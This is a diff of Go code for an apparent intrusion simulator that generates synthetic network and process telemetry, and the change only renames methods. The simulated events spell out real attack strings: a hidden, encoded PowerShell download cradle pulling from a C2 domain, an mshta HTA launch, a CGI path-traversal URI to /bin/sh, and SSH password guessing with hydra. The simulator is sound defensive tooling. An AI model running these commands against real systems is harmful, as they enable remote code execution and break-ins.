@@ -88,12 +88,12 @@ func scanFromOutside(a *Attempt) Progress {
 	}
 	var refusal world.Refusal
 	for _, h := range candidates {
-		if r := w.Permitted(a.Source(), world.At(h), 22); !r.OK() {
+		if r := w.Permitted(a.source(), world.At(h), 22); !r.OK() {
 			continue
 		}
 		at += time.Duration(float64(gap) * a.Rand.Exp())
 		open := sshServer(h)
-		if r := w.Reach(a.Source(), world.At(h), 22); !r.OK() {
+		if r := w.Reach(a.source(), world.At(h), 22); !r.OK() {
 			refusal = r
 			continue
 		}
@@ -102,7 +102,7 @@ func scanFromOutside(a *Attempt) Progress {
 			state = "RSTO"
 			a.learn(h)
 		}
-		w.Flow(at, a.Actor, world.Flow{From: a.Source(), To: world.At(h), Port: 22, Sent: 44, Received: 40, State: state})
+		w.Flow(at, a.Actor, world.Flow{From: a.source(), To: world.At(h), Port: 22, Sent: 44, Received: 40, State: state})
 	}
 	if len(a.Known) == 0 {
 		if !refusal.OK() {
@@ -121,7 +121,7 @@ func guessPasswords(a *Attempt) Progress {
 	w := a.World
 	if a.Target == nil {
 		a.Target = a.pick(&a.Rand, func(h *world.Host) bool {
-			return sshServer(h) && !a.On(h) && w.Permitted(a.Source(), world.At(h), 22).OK()
+			return sshServer(h) && !a.on(h) && w.Permitted(a.source(), world.At(h), 22).OK()
 		})
 		if a.Target == nil {
 			return failure("no SSH server left to try")
@@ -133,19 +133,19 @@ func guessPasswords(a *Attempt) Progress {
 	if a.Tool == "distributed script" {
 		a.Address = a.Round % len(a.Addresses)
 	}
-	if r := w.Reach(a.Source(), world.At(a.Target), 22); !r.OK() {
+	if r := w.Reach(a.source(), world.At(a.Target), 22); !r.OK() {
 		return blocked(r)
 	}
 	if a.Target.Decoy {
-		w.TouchDecoy(a.Now, a.Actor, a.Source(), a.Target, "4002")
+		w.TouchDecoy(a.Now, a.Actor, a.source(), a.Target, "4002")
 		a.Avoid[a.Target.Name] = true
 		return Progress{Done: true, Refusal: w.Decoyed(a.Target), Note: a.Target.Name + " was a decoy"}
 	}
 	name := sim.Pick(&a.Rand, guessable)
 	hit := a.Target.Weak && uint64(a.Round) >= a.Bytes
-	ok, r := w.SSH(a.Now, a.Actor, world.SSHAttempt{From: a.Source(), To: a.Target, User: name, Unknown: !hit && name != "root", Good: hit})
+	ok, r := w.SSH(a.Now, a.Actor, world.SSHAttempt{From: a.source(), To: a.Target, User: name, Unknown: !hit && name != "root", Good: hit})
 	if ok {
-		a.gain(&Foothold{Host: a.Target, Address: a.Source().IP(), Port: 22, Since: a.Now, Elevated: name == "root"})
+		a.gain(&Foothold{Host: a.Target, Address: a.source().IP(), Port: 22, Since: a.Now, Elevated: name == "root"})
 		return success("logged on to %s as %s after %d guesses", a.Target.Name, name, a.Round+1)
 	}
 	if a.Round >= a.Count {
@@ -154,7 +154,7 @@ func guessPasswords(a *Attempt) Progress {
 	}
 	mean := map[string]time.Duration{"hydra": time.Second, "medusa": 4 * time.Second, "patient script": 40 * time.Second, "distributed script": 12 * time.Second}[a.Tool]
 	wait := time.Duration(float64(mean) * a.Slowdown * (0.4 + 0.6*a.Rand.Exp()))
-	if limit, action := w.RateLimit(a.Source().IP()); limit > wait {
+	if limit, action := w.RateLimit(a.source().IP()); limit > wait {
 		if a.Rand.Bool(0.05 + 0.2*a.Skill) { // he notices that answers have become slow
 			return blocked(world.Refusal{Reason: "rate_limited", Action: action})
 		}
@@ -184,15 +184,15 @@ func logOnThroughGateway(a *Attempt) Progress {
 		}
 		victim = sim.Pick(&a.Rand, w.Accounts)
 	}
-	if r := w.Reach(a.Source(), world.At(gateway), 443); !r.OK() {
+	if r := w.Reach(a.source(), world.At(gateway), 443); !r.OK() {
 		return blocked(r)
 	}
-	w.Flow(a.Now, a.Actor, world.Flow{From: a.Source(), To: world.At(gateway), Port: 443, Service: "ssl", Sent: 60e3, Received: 3e6, Duration: 15 * time.Minute})
+	w.Flow(a.Now, a.Actor, world.Flow{From: a.source(), To: world.At(gateway), Port: 443, Service: "ssl", Sent: 60e3, Received: 3e6, Duration: 15 * time.Minute})
 	client := a.Hello
 	if a.Tool == "system client" {
 		client = world.SchannelHello
 	}
-	w.TLS(a.Now, a.Actor, a.Source(), world.At(gateway), 443, "remote."+w.Domain, client, "CN=Public CA", "CN=remote."+w.Domain, true)
+	w.TLS(a.Now, a.Actor, a.source(), world.At(gateway), 443, "remote."+w.Domain, client, "CN=Public CA", "CN=remote."+w.Domain, true)
 	if r := w.Reach(world.At(gateway), world.At(victim.Home), 3389); !r.OK() {
 		return blocked(r)
 	}
@@ -231,7 +231,7 @@ func phish(a *Attempt) Progress {
 		return failure("nobody opened the attachment")
 	}
 	var victim *world.Account
-	for i := 0; victim == nil || victim.Home == nil || victim.Privilege != world.User || a.On(victim.Home); i++ {
+	for i := 0; victim == nil || victim.Home == nil || victim.Privilege != world.User || a.on(victim.Home); i++ {
 		if i > 4*len(w.Accounts) {
 			return failure("nobody left to write to")
 		}
@@ -260,7 +260,7 @@ func phish(a *Attempt) Progress {
 		w.CreateFile(a.Now, a.Actor, outlook, `C:\Users\`+victim.Name+`\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\8K2LQ0\Invoice.hta`)
 		launcher = w.StartProcess(a.Now+5*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.Mshta, CommandLine: `"C:\Windows\System32\mshta.exe" "C:\Users\` + victim.Name + `\AppData\Local\Temp\OneNote\Invoice.hta"`, Parent: outlook})
 	}
-	script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://%s/u')", a.C2().Domain)
+	script := fmt.Sprintf("IEX (New-Object Net.WebClient).DownloadString('https://%s/u')", a.c2().Domain)
 	shell := w.StartProcess(a.Now+8*time.Second, a.Actor, world.Start{Host: h, Account: victim, Binary: world.PowerShell, CommandLine: `powershell.exe -nop -w hidden -enc ` + encoded(script), Parent: launcher})
 	w.RunScript(a.Now+9*time.Second, a.Actor, h, script)
 	return a.phished(shell, victim)
@@ -268,7 +268,7 @@ func phish(a *Attempt) Progress {
 
 // phished lets what the victim started call home and leave an implant.
 func (a *Attempt) phished(p *world.Process, victim *world.Account) Progress {
-	w, h, c2 := a.World, p.Host, a.C2()
+	w, h, c2 := a.World, p.Host, a.c2()
 	w.Resolve(a.Now+9*time.Second, a.Actor, h, p, c2.Domain, "A", c2.Address)
 	a.Hostile.MarkHost(h.Name)
 	if r := w.Reach(world.At(h), c2, 443); !r.OK() {
@@ -293,7 +293,7 @@ func lure(a *Attempt, mailed bool) Progress {
 	if victim == nil {
 		return failure("nobody left to lure")
 	}
-	h, c2 := victim.Home, a.C2()
+	h, c2 := victim.Home, a.c2()
 	browser := &world.Process{Host: h, PID: 6120, Binary: world.Chrome, CommandLine: `"` + world.Chrome.Path + `"`, Account: victim, Integrity: "Medium", GUID: "{00000000-0000-0000-0000-0000000017e8}"}
 	w.Resolve(a.Now, a.Actor, h, browser, c2.Domain, "A", c2.Address)
 	if r := w.Reach(world.At(h), c2, 443); !r.OK() {
@@ -330,7 +330,7 @@ func lure(a *Attempt, mailed bool) Progress {
 func (a *Attempt) person() *world.Account {
 	for range 4 * len(a.World.Accounts) {
 		who := sim.Pick(&a.Rand, a.World.Accounts)
-		if who.Privilege == world.User && who.Home != nil && !a.On(who.Home) {
+		if who.Privilege == world.User && who.Home != nil && !a.on(who.Home) {
 			return who
 		}
 	}
@@ -343,14 +343,14 @@ func poisonUpdate(a *Attempt) Progress {
 	servers := w.WithRole(role.AppServer)
 	var windows []*world.Host
 	for _, h := range servers {
-		if h.Windows() && !a.On(h) {
+		if h.Windows() && !a.on(h) {
 			windows = append(windows, h)
 		}
 	}
 	if len(windows) == 0 || a.failed {
 		return failure("the product is not installed")
 	}
-	h, c2 := sim.Pick(&a.Rand, windows), a.C2()
+	h, c2 := sim.Pick(&a.Rand, windows), a.c2()
 	a.Target = h
 	a.Hostile.MarkHost(h.Name)
 	p := w.StartProcess(a.Now, a.Actor, world.Start{Host: h, Binary: world.Updater, CommandLine: `"` + world.Updater.Path + `" /silent`, Integrity: "System"})
@@ -374,7 +374,7 @@ func poisonUpdate(a *Attempt) Progress {
 func exploitWeb(a *Attempt) Progress {
 	w := a.World
 	if a.Round == 0 {
-		a.Target = a.pick(&a.Rand, func(h *world.Host) bool { return h.Role == role.WebServer && !a.On(h) })
+		a.Target = a.pick(&a.Rand, func(h *world.Host) bool { return h.Role == role.WebServer && !a.on(h) })
 		if a.Target == nil {
 			a.Target = sim.Pick(&a.Rand, w.WithRole(role.WebServer))
 		}
@@ -384,7 +384,7 @@ func exploitWeb(a *Attempt) Progress {
 		}
 	}
 	h := a.Target
-	if r := w.Reach(a.Source(), world.At(h), 80); !r.OK() {
+	if r := w.Reach(a.source(), world.At(h), 80); !r.OK() {
 		return blocked(r)
 	}
 	uri, query, method := "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "", "POST"
@@ -398,8 +398,8 @@ func exploitWeb(a *Attempt) Progress {
 	if a.Round >= a.Count {
 		status = "200"
 	}
-	w.HTTP(a.Now, a.Actor, world.Request{From: a.Source(), To: world.At(h), Port: 80, Method: method, Host: "www." + w.Domain, URI: uri, Query: query, Agent: "curl/7.88.1", Status: status, Sent: 300, Received: 900})
-	w.Flow(a.Now, a.Actor, world.Flow{From: a.Source(), To: world.At(h), Port: 80, Service: "http", Sent: 900, Received: 1800, Duration: time.Second})
+	w.HTTP(a.Now, a.Actor, world.Request{From: a.source(), To: world.At(h), Port: 80, Method: method, Host: "www." + w.Domain, URI: uri, Query: query, Agent: "curl/7.88.1", Status: status, Sent: 300, Received: 900})
+	w.Flow(a.Now, a.Actor, world.Flow{From: a.source(), To: world.At(h), Port: 80, Service: "http", Sent: 900, Received: 1800, Duration: time.Second})
 	if a.Round < a.Count {
 		return again(time.Duration(float64(3*time.Second) * (0.4 + a.Rand.Exp()) * a.Slowdown))
 	}
@@ -411,7 +411,7 @@ func exploitWeb(a *Attempt) Progress {
 	}
 	parent := &world.Process{Host: h, PID: 812, Binary: world.Apache, CommandLine: "/usr/sbin/apache2 -k start", GUID: "{00000000-0000-0000-0000-00000000032c}"}
 	w.StartProcess(a.Now+time.Second, a.Actor, world.Start{Host: h, Binary: world.Bash, CommandLine: "sh -c id", Parent: parent})
-	c2 := a.C2()
+	c2 := a.c2()
 	if r := w.Reach(world.At(h), c2, 443); !r.OK() {
 		return blocked(r)
 	}
